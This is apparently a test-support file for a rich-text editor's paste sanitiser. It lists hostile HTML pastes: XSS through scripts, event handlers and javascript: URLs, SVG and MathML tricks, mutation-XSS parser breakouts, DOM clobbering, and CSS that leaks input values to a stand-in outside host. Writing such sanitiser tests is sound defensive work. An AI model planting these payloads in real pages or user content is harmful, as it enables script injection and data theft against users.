import { AWAY, type HostilePaste, html, RUN } from '#tests/support/hostile-paste';
import { hostileShapes } from '#tests/support/hostile-shapes';

const scripts = html('script', [
  `<script>${RUN}</script>`,
  `<script src="${AWAY}.js"></script>`,
  `<script type="module">${RUN}</script>`,
  `<script async defer src="//outside.example/x.js"></script>`,
  `<SCRIPT>${RUN}</SCRIPT>`,
  `<script/x>${RUN}</script>`,
  `<script\n>${RUN}</script\n>`,
  `<script>${RUN}`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<noscript><p title="</noscript><script>${RUN}</script>">kept</p></noscript>`,
  `<script type="importmap">{"imports":{"x":"${AWAY}"}}</script>`,
  `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${AWAY}"]}]}</script>`,
  `<p><b><script>${RUN}</script></b></p>`,
  `<ul><li><script>${RUN}</script></li></ul>`,
]);

const loaders = ['img src', 'video src', 'audio src', 'input type=image src', 'embed src', 'source src', 'track src'];
const events =
  'onerror onload onclick onfocus onmouseover onpointerenter onanimationstart ontoggle onscroll onbeforeinput'.split(
    ' ',
  );
const elements = 'p b a h1 li blockquote div span details select textarea marquee'.split(' ');

const handlers = html('handler', [
  ...loaders.map((loader) => `<${loader}="${AWAY}" onerror="${RUN}" onload="${RUN}">`),
  ...events.map((event) => `<img src="data:,x" ${event}="${RUN}">`),
  ...elements.map(
    (element) => `<${element} onmouseover="${RUN}" onfocus="${RUN}" autofocus tabindex=0>kept</${element}>`,
  ),
  `<body onload="${RUN}" onpageshow="${RUN}"><p>kept</p></body>`,
  `<details open ontoggle="${RUN}"><summary>kept</summary>kept</details>`,
  `<input autofocus onfocus="${RUN}" value=kept>`,
  `<p onclick=${RUN}>kept</p>`,
  `<p/onclick="${RUN}"/x>kept</p>`,
  `<p style="animation:x 1s" onanimationstart="${RUN}">kept</p>`,
  `<ul data-type="taskList"><li data-type="taskItem" data-checked="true" onclick="${RUN}"><p>kept</p></li></ul>`,
]);

const schemes = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java&#10;script:${RUN}`,
  `java&Tab;script:${RUN}`,
  `&#1;javascript:${RUN}`,
  ` javascript:${RUN}`,
  `javascript&colon;${RUN}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGFja2VkPTE8L3NjcmlwdD4=`,
  `blob:app://ebb/0b9f2f0e-93f1-4d0c-8a3e-5b6c7d8e9f00`,
  'file:///etc/passwd',
  'app://ebb/../../etc/passwd',
  'chrome://settings',
  'view-source:app://ebb/',
  'filesystem:app://ebb/x',
  '//outside.example/x',
  `https:javascript:${RUN}`,
] as const;

const addresses = html('address', [
  ...schemes.map((scheme) => `<p><a href="${scheme}">kept</a></p>`),
  ...schemes.map((scheme) => `<p><b><a href='${scheme}' target=_blank rel=opener ping="${AWAY}">kept</a></b></p>`),
  ...schemes
    .slice(0, 9)
    .map((scheme) => `<form action="${scheme}"><button formaction="${scheme}">kept</button></form>`),
  `<a href="https://example.com/" style="position:fixed;inset:0" class="x" id="root" target="_top">kept</a>`,
  `<a href="https://example.com/\u202egpj.exe">kept</a>`,
  `<a href="https://example.com@outside.example/">kept</a>`,
  `<a href="https://example.com/${'a'.repeat(10_000)}">kept</a>`,
  `<a href="mailto:a@example.com?subject=%0d%0aBcc:x">kept</a>`,
  `<map name=m><area shape=default href="javascript:${RUN}"></map><img usemap=#m src="data:,x">`,
  `<a download="../../x" href="data:text/plain,x">kept</a>`,
  `<math href="javascript:${RUN}">kept</math>`,
]);

const frames = html('frame', [
  `<iframe src="${AWAY}"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<iframe src="data:text/html,<script>parent.postMessage(1,'*')</script>"></iframe>`,
  `<frameset onload="${RUN}"><frame src="${AWAY}"></frameset>`,
  `<object data="${AWAY}" type="text/html"></object>`,
  `<object data="data:text/html,<script>${RUN}</script>"></object>`,
  `<embed src="${AWAY}" type="application/x-shockwave-flash">`,
  `<applet code="x" archive="${AWAY}"></applet>`,
  `<portal src="${AWAY}"></portal>`,
  `<fencedframe src="${AWAY}"></fencedframe>`,
  `<webview src="${AWAY}" nodeintegration></webview>`,
]);

const drawings = html('drawing', [
  `<svg onload="${RUN}"></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href="${AWAY}.js"/></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text x=0 y=20>kept</text></a></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s></svg>`,
  `<svg><a><animate attributeName=href values="javascript:${RUN}"/><text y=20>kept</text></a></svg>`,
  `<svg><set attributeName="onmouseover" to="${RUN}"></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${RUN}</script></svg>#x"></svg>`,
  `<svg><use href="${AWAY}.svg#x"></svg>`,
  `<svg><image href="${AWAY}.png" onerror="${RUN}"/></svg>`,
  `<svg><foreignObject><iframe src="${AWAY}"></iframe></foreignObject></svg>`,
  `<svg><style>@import "${AWAY}.css";</style></svg>`,
  `<svg><filter><feImage href="${AWAY}.png"/></filter></svg>`,
  `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>">`,
  `<math><mtext><script>${RUN}</script></mtext></math>`,
  `<math><maction actiontype="statusline#javascript:${RUN}">kept</maction></math>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror="${RUN}"></annotation-xml></math>`,
  `<math><mi xlink:href="javascript:${RUN}">kept</mi></math>`,
]);

const pages = html('page', [
  `<base href="${AWAY}/"><a href="x">kept</a><img src="y.png">`,
  `<meta http-equiv="refresh" content="0;url=${AWAY}">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
  `<link rel="stylesheet" href="${AWAY}.css">`,
  `<link rel="preload" as="image" href="${AWAY}.png">`,
  `<link rel="dns-prefetch" href="//outside.example">`,
  `<link rel="modulepreload" href="${AWAY}.js">`,
  `<link rel="manifest" href="${AWAY}.json">`,
  `<style>@import url("${AWAY}.css"); body{display:none}</style>`,
  `<style>*{background:url("${AWAY}.png")!important}</style>`,
  `<style>@font-face{font-family:x;src:url("${AWAY}.woff")}</style>`,
  `<style>input[value^=a]{background:url("${AWAY}?a")}</style>`,
  `<p style="background:url(${AWAY}.png)">kept</p>`,
  `<p style="width:expression(${RUN});-moz-binding:url(${AWAY})">kept</p>`,
  `<p style="position:fixed;inset:0;z-index:9999999;font-size:900px">kept</p>`,
  `<body background="${AWAY}.png"><p>kept</p></body>`,
  `<table background="${AWAY}.png"><td background="${AWAY}.png">kept</table>`,
  `<title>kept</title><title>${'x'.repeat(1000)}</title>`,
  `<html manifest="${AWAY}"><head><title>x</title></head><body class="dark">kept</body></html>`,
  `<plaintext>kept<script>${RUN}</script>`,
]);

const pictures = html('picture', [
  `<img src="${AWAY}.png">`,
  `<img srcset="${AWAY}.png 1x, ${AWAY}2.png 2x" sizes="100vw">`,
  `<img src="data:," srcset="javascript:${RUN} 1x">`,
  `<img lowsrc="${AWAY}" dynsrc="${AWAY}" longdesc="${AWAY}">`,
  `<picture><source srcset="${AWAY}.webp"><img src="${AWAY}.png"></picture>`,
  `<video poster="${AWAY}.png" autoplay><source src="${AWAY}.mp4" onerror="${RUN}"></video>`,
  `<video src="${AWAY}.mp4" controls oncanplay="${RUN}"></video>`,
  `<audio src="${AWAY}.mp3" autoplay></audio>`,
  `<img src="\\\\outside.example\\share\\x.png">`,
  `<img loading=eager fetchpriority=high src="${AWAY}.png" onload="${RUN}">`,
  `<input type="image" src="${AWAY}.png">`,
  `<img src="cid:x"><img src="file:///etc/passwd">`,
]);

const mutations = html('mutation', [
  `<noscript><style></noscript><img src=x onerror="${RUN}">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${RUN}">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<svg><p><style><g title="</style><img src=x onerror=${RUN}>">`,
  `<table><a href="javascript:${RUN}"><td>kept</a></table>`,
  `<select><template><img src=x onerror="${RUN}"></template></select>`,
  `<template><script>${RUN}</script><img src=x onerror="${RUN}"></template>`,
  `<template shadowrootmode="open"><img src=x onerror="${RUN}"></template>`,
  `<textarea><img title="</textarea><img src onerror=${RUN}>"></textarea>`,
  `<title><img title="</title><img src onerror=${RUN}>"></title>`,
  `<xmp><p title="</xmp><svg onload=${RUN}>"></xmp>`,
  `<noembed><img title="</noembed><img src onerror=${RUN}>"></noembed>`,
  `<!--[if gte IE 4]><script>${RUN}</script><![endif]-->`,
  `<!--><img src=x onerror="${RUN}">-->`,
  `<![CDATA[<img src=x onerror="${RUN}">]]>`,
  `<?xml-stylesheet href="javascript:${RUN}"?>`,
  `<p title='"><img src=x onerror=${RUN}>'>kept</p>`,
  `&lt;img src=x onerror="${RUN}"&gt;`,
  `<img src="x\`>\`<script>${RUN}</script>">`,
  `<div contenteditable><p>kept</p></div><p contenteditable=false>kept</p>`,
]);

const names =
  'body head documentElement cookie location defaultView ebb hacked editor __proto__ constructor currentScript'.split(
    ' ',
  );
const clobbering = html('name', [
  ...names.map(
    (name) =>
      `<a id="${name}" name="${name}" href="https://example.com/">kept</a><form name="${name}"><input name="${name}"></form>`,
  ),
  `<form id=x><input name=attributes><input name=parentNode><input name=nodeName></form>`,
  `<p id="root">kept</p><div id="root" class="ProseMirror">kept</div>`,
  `<p data-pm-slice='1 1 ["__proto__",{"polluted":1}]'>kept</p>`,
  `<p data-pm-slice='99 99 [[[["doc",{}]]]]'>kept</p>`,
  `<p data-pm-slice='-1 -1 ["paragraph",null]'>kept</p>`,
  `<p data-pm-slice='0 0 {"toString":1}'>kept</p>`,
  `<h1 level="99" data-level="__proto__">kept</h1>`,
  `<ol start="9007199254740993"><li>kept</li></ol>`,
  `<ol start="-2147483649" type="__proto__" reversed><li value="1e309">kept</li></ol>`,
]);

/** Pastes of every kind that is known to run, load, hide, break out or break down, written for this. */
export const hostilePastes: readonly HostilePaste[] = [
  ...scripts,
  ...handlers,
  ...addresses,
  ...frames,
  ...drawings,
  ...pages,
  ...pictures,
  ...mutations,
  ...clobbering,
  ...hostileShapes,
];
